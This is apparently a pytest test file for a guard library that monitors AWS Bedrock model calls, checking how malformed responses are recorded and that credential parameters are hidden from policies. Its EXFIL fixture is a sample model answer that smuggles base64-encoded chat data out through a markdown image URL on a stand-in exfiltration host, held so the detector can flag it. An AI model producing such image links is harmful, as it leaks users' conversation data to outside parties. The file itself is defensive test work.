"""Odd and hostile Bedrock responses, and credential-bearing request parameters, through real botocore."""

from __future__ import annotations

import json
from typing import Any

import pytest

from agentguard import CloudCallBlocked, Decision
from tests.bedrock_server import AgentEvents, Body, Raw, agent_chunk, agent_trace
from tests.genai import plain

CLAUDE = "anthropic.claude-3-5-haiku-20241022-v1:0"
# An answer carrying conversation data out in a markdown image: a model-output finding.
EXFIL = ("Your refund is approved. ![ok](https://t.exfil-cdn.example/p.png?d="
         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")
_USER = [{"role": "user", "content": [{"text": "Is my refund approved?"}]}]


def _output(span: Any) -> Any:
    return plain(span.attributes["gen_ai.output.messages"])


def _exfil_findings(findings: list[Any]) -> list[Any]:
    return [f for f in findings if f.evidence.get("source", {}).get("kind") == "model_output"]


def _chunks(*chunks: bytes) -> AgentEvents:
    return AgentEvents([("chunk", {"bytes": chunk}) for chunk in chunks])


def test_an_invoke_model_answer_with_a_nan_usage_count_is_still_recorded_and_judged(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """A usage count of NaN (JSON as Python reads it) is left out; the answer is still recorded
    and judged, and the caller reads the body unchanged."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    text = json.dumps(EXFIL).encode()
    body = (b'{"content": [{"type": "text", "text": ' + text + b'}], "stop_reason": "end_turn", '
            b'"usage": {"input_tokens": NaN, "output_tokens": 5}}')
    bedrock.push(Body(body))
    response = runtime().invoke_model(modelId=CLAUDE, body=b'{"messages": []}')
    assert response["body"].read() == body
    span = spans.one(f"chat {CLAUDE}")
    assert "gen_ai.usage.input_tokens" not in span.attributes
    assert span.attributes["gen_ai.usage.output_tokens"] == 5
    assert _output(span) == [{"role": "assistant", "content": EXFIL}]
    assert len(_exfil_findings(findings)) == 1


def test_an_infinite_count_in_a_stream_chunk_does_not_hide_the_rest_of_the_answer(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """A chunk whose usage is Infinity is passed on and left out of the usage; the text chunks
    after it still make the recorded, judged answer."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(_chunks(
        b'{"type": "message_start", "message": {"id": "msg_1", "usage": {"input_tokens": 1e999}}}',
        b'{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": %s}}'
        % json.dumps(EXFIL).encode(),
        b'{"type": "message_stop"}'))
    response = runtime().invoke_model_with_response_stream(modelId=CLAUDE,
                                                           body=b'{"messages": []}')
    assert len(list(response["body"])) == 3
    span = spans.one(f"chat {CLAUDE}")
    assert "gen_ai.usage.input_tokens" not in span.attributes
    assert _output(span) == [{"role": "assistant", "content": EXFIL}]
    assert len(_exfil_findings(findings)) == 1


def test_a_streamed_tool_input_nested_too_deep_to_decode_still_ends_the_span(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """Tool input deeper than the JSON decoder goes is kept as the text the model sent; the span
    ends when the stream does and the answer's text is judged."""
    findings: list[Any] = []
    seen: list[Any] = []
    guarded(on_finding=findings.append, policy=seen.append)
    deep = "[" * 3000 + "]" * 3000
    bedrock.push(_chunks(
        b'{"type": "message_start", "message": {"id": "msg_2", "usage": {"input_tokens": 3}}}',
        b'{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": %s}}'
        % json.dumps(EXFIL).encode(),
        b'{"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", '
        b'"id": "tu-1", "name": "lookup", "input": {}}}',
        b'{"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", '
        b'"partial_json": %s}}' % json.dumps(deep).encode(),
        b'{"type": "message_delta", "delta": {"stop_reason": "tool_use"}}'))
    stream = runtime().invoke_model_with_response_stream(modelId=CLAUDE,
                                                         body=b'{"messages": []}')["body"]
    assert len(list(stream)) == 5
    span = spans.one(f"chat {CLAUDE}")
    assert span.attributes["gen_ai.usage.input_tokens"] == 3
    assert span.attributes["gen_ai.response.finish_reasons"] == ("tool_use",)
    [response] = [e for e in seen if e.kind == "model_call" and e.phase == "response"]
    [message] = response.output
    assert message.content == EXFIL
    assert message.tool_calls == [{"id": "tu-1", "name": "lookup", "arguments": deep}]
    assert len(_exfil_findings(findings)) == 1


def test_a_converse_answer_with_citations_is_recorded_and_judged(guarded: Any, spans: Any,
                                                                 bedrock: Any,
                                                                 runtime: Any) -> None:
    """With document citations on, Converse answers in ``citationsContent`` blocks: their text
    is the recorded answer and is judged as the model's output."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    cited = {"citationsContent": {
        "content": [{"text": EXFIL}],
        "citations": [{"title": "policy.md", "sourceContent": [{"text": "Refunds apply."}],
                       "location": {"documentChar": {"documentIndex": 0, "start": 0,
                                                     "end": 14}}}]}}
    bedrock.push(Raw({"output": {"message": {"role": "assistant", "content": [
                          {"text": "Checked. "}, cited]}},
                      "stopReason": "end_turn", "metrics": {"latencyMs": 3},
                      "usage": {"inputTokens": 10**30, "outputTokens": 9, "totalTokens": 9}}))
    response = runtime().converse(modelId=CLAUDE, messages=_USER)
    assert response["output"]["message"]["content"][1] == cited
    span = spans.one(f"chat {CLAUDE}")
    assert _output(span) == [{"role": "assistant", "content": "Checked. " + EXFIL}]
    # A count no 64-bit span attribute can carry is left out.
    assert "gen_ai.usage.input_tokens" not in span.attributes
    assert span.attributes["gen_ai.usage.output_tokens"] == 9
    assert len(_exfil_findings(findings)) == 1


def test_guard_content_and_cited_answers_in_a_request_reach_the_guard_as_text(
        guarded: Any, bedrock: Any, runtime: Any) -> None:
    """``guardContent`` in the system prompt and an earlier cited answer are the text the model
    reads, not placeholders; cache points add nothing."""
    seen: list[Any] = []
    guarded(policy=seen.append)
    bedrock.push(Raw({"output": {"message": {"role": "assistant", "content": [{"text": "ok"}]}},
                      "stopReason": "end_turn", "metrics": {"latencyMs": 3},
                      "usage": {"inputTokens": 1, "outputTokens": 1, "totalTokens": 2}}))
    messages = [*_USER,
                {"role": "assistant", "content": [{"citationsContent": {
                    "content": [{"text": "Refunds take 30 days."}], "citations": []}}]},
                {"role": "user", "content": [{"text": "And after that?"}]}]
    runtime().converse(modelId=CLAUDE, messages=messages, system=[
        {"text": "You are a support agent."},
        {"guardContent": {"text": {"text": "Never share customer data."}}},
        {"cachePoint": {"type": "default"}}])
    request = next(e for e in seen if e.kind == "model_call" and e.phase == "request")
    assert [(m.role, m.content) for m in request.messages] == [
        ("system", "You are a support agent.\nNever share customer data."),
        ("user", "Is my refund approved?"),
        ("assistant", "Refunds take 30 days."),
        ("user", "And after that?")]


def test_agent_trace_usage_of_the_wrong_type_is_left_out(guarded: Any, spans: Any,
                                                         bedrock: Any, runtime: Any) -> None:
    """Usage in an agent's trace that is not a number (event-stream payloads are not
    type-checked by botocore) is left off the model span; the step's answer is still judged."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([
        agent_trace(orchestrationTrace={"modelInvocationInput": {
            "traceId": "t-0", "text": "refund?", "foundationModel": CLAUDE}}),
        agent_trace(orchestrationTrace={"modelInvocationOutput": {
            "traceId": "t-0", "rawResponse": {"content": EXFIL},
            "metadata": {"usage": {"inputTokens": {"n": 1}, "outputTokens": "2"}}}}),
        agent_chunk("done")]))
    response = runtime("bedrock-agent-runtime").invoke_agent(
        agentId="AGENT1", agentAliasId="ALIAS1", sessionId="session-1", inputText="refund?",
        enableTrace=True)
    assert len(list(response["completion"])) == 3
    span = spans.one(f"chat {CLAUDE}")
    assert not [k for k in span.attributes if k.startswith("gen_ai.usage.")]
    assert len(_exfil_findings(findings)) == 1


@pytest.mark.parametrize(("service", "call", "kwargs", "secret"), [
    ("sts", "assume_role_with_saml",
     {"RoleArn": "arn:aws:iam::123456789012:role/agent", "DurationSeconds": 900,
      "PrincipalArn": "arn:aws:iam::123456789012:saml-provider/idp",
      "SAMLAssertion": "PHNhbWxwOlJlc3BvbnNlIHNhbWwtYmVhcmVyLWFzc2VydGlvbg=="},
     "SAMLAssertion"),
    ("cognito-idp", "respond_to_auth_challenge",
     {"ClientId": "client1", "ChallengeName": "SMS_MFA", "Session": "AYABeOpaqueSessionBearer",
      "ChallengeResponses": {"SMS_MFA_CODE": "123456"}}, "Session"),
    ("cognito-idp", "confirm_forgot_password",
     {"ClientId": "client1", "Username": "ana", "ConfirmationCode": "731904",
      "Password": "N3w-passw0rd!"}, "ConfirmationCode"),
], ids=["saml-assertion", "cognito-session", "confirmation-code"])
def test_bearer_credentials_under_other_names_never_reach_a_policy(
        guarded: Any, aws: Any, service: str, call: str, kwargs: dict[str, Any],
        secret: str) -> None:
    """A SAML assertion, a Cognito auth session and a password-reset code are credentials: they
    are not among the parameters a policy sees (the call is blocked, so nothing is sent)."""
    seen: list[Any] = []

    def block_all(event: Any) -> Decision | None:
        if event.kind != "cloud_call":
            return None
        seen.append(event)
        return Decision.block("probe", rule_id="probe")

    guarded(policy=block_all, mode="enforce")
    with pytest.raises(CloudCallBlocked):
        getattr(aws(service), call)(**kwargs)
    [event] = seen
    assert secret not in event.parameters
    assert kwargs[secret] not in json.dumps(event.model_dump(mode="json"))
    assert event.parameters  # the harmless ones are still there
